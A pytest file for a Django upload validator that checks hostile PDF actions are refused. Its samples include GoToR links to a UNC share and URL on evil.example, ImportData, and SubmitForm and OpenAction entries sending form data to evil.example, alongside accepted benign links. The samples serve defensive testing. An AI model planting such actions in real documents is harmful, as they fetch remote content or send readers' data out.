"""What an upload may not fetch, open or send: content loaded from another file or address when
the document is opened or its fields updated, data sent away, and the packages that hide them.
Each hostile sample is built here, with a clean counterpart that is still accepted."""

import pytest
from django.core.exceptions import ValidationError

from papers.tests import files
from papers.validators import inspect_document


def _inspect(data: bytes, name: str):
    return inspect_document(files.upload(name, data))


def _refusal(data: bytes, name: str) -> list[tuple[str, str]]:
    with pytest.raises(ValidationError) as error:
        _inspect(data, name)
    return [(e.code, e.message % (e.params or {})) for e in error.value.error_list]


# PDF actions.

PDF_ADVICE = ("pdf_active_content", "Export or print it again as a plain PDF and upload it.")
REMOTE_GOTO = ("pdf_remote_goto", "The PDF contains an action that opens another file (GoToR).")
IMPORT_DATA = ("pdf_import_data", "The PDF contains an action that imports data from another file (ImportData).")
SUBMIT_FORM = ("pdf_submit_form", "The PDF contains a form that sends its data to an address (SubmitForm).")
RICH_MEDIA = ("pdf_rich_media", "The PDF contains rich media (Flash, sound, video or 3D content).")
EMBEDDED = ("pdf_embedded_file", "The PDF contains embedded files.")


def _link(action: bytes) -> bytes:
    """A PDF whose page has a link annotation running `action` when clicked."""
    return files.annotated_pdf_bytes(b"<< /Type /Annot /Subtype /Link /Rect [0 0 90 20] /A %s >>" % action)


@pytest.mark.parametrize(
    ("data", "reasons"),
    [
        pytest.param(
            _link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\report.pdf) /D [0 /Fit] >>"),
            [REMOTE_GOTO],
            id="gotor",
        ),
        pytest.param(
            _link(b"<< /S /GoToR /F << /FS /URL /F (https://evil.example/next.pdf) >> /D [0 /Fit] >>"),
            [REMOTE_GOTO],
            id="gotor-url-file-specification",
        ),
        pytest.param(
            files.pdf_bytes(
                extra=b"/Outlines 6 0 R ",
                objects=(
                    b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                    b"<< /Title (Annex) /Parent 6 0 R /A << /S /GoToR /F (annex.pdf) /D [0 /Fit] >> >>",
                ),
            ),
            [REMOTE_GOTO],
            id="gotor-in-an-outline-item",
        ),
        pytest.param(
            _link(b"<< /S /GoTo /D [4 0 R /Fit] /Next << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>"),
            [REMOTE_GOTO],
            id="gotor-chained-after-a-goto",
        ),
        pytest.param(_link(b"<< /S /Thread /F (other.pdf) /D 0 >>"), [REMOTE_GOTO], id="thread-in-another-file"),
        pytest.param(_link(b"<< /S /ImportData /F (C:\\\\data\\\\fields.fdf) >>"), [IMPORT_DATA], id="import-data"),
        pytest.param(
            files.pdf_bytes(
                extra=b"/AcroForm << /Fields [6 0 R] >> ",
                page_extra=b"/Annots [6 0 R] ",
                objects=(
                    b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 90 20] /P 4 0 R "
                    b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >> >>",
                ),
            ),
            [SUBMIT_FORM],
            id="submit-button",
        ),
        pytest.param(_link(b"<< /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>"), [EMBEDDED], id="gotoe"),
        pytest.param(_link(b"<< /S /Sound /Sound 7 0 R >>"), [RICH_MEDIA], id="sound"),
        pytest.param(_link(b"<< /S /Movie /T (clip) >>"), [RICH_MEDIA], id="movie"),
        pytest.param(_link(b"<< /S /Rendition /OP 0 >>"), [RICH_MEDIA], id="rendition"),
    ],
)
def test_a_pdf_action_that_opens_fetches_or_sends_is_refused(data, reasons):
    assert _refusal(data, "paper.pdf") == [*reasons, PDF_ADVICE]


def test_an_opening_action_that_submits_a_form_names_both_reasons():
    data = files.pdf_bytes(extra=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >> ")
    assert _refusal(data, "paper.pdf") == [
        SUBMIT_FORM,
        ("pdf_open_action", "The PDF runs an action as soon as it is opened (OpenAction)."),
        PDF_ADVICE,
    ]


@pytest.mark.parametrize(
    "action",
    [
        # Navigation inside the paper, and a web link followed only on a click.
        pytest.param(b"<< /S /GoTo /D [4 0 R /Fit] >>", id="goto"),
        pytest.param(b"<< /S /URI /URI (https://www.gfmd.org/) >>", id="uri"),
        pytest.param(b"<< /S /Named /N /NextPage >>", id="named"),
        pytest.param(b"<< /S /Hide /T (note) /H true >>", id="hide"),
        pytest.param(b"<< /S /Trans /Trans << /S /Dissolve >> >>", id="trans"),
        pytest.param(b"<< /S /ResetForm >>", id="reset-form"),
        pytest.param(b"<< /S /Thread /D 0 >>", id="thread-in-this-file"),
    ],
)
def test_a_pdf_link_that_stays_in_the_document_or_goes_to_the_web_is_accepted(action):
    assert _inspect(_link(action), "paper.pdf").file_format == "pdf"
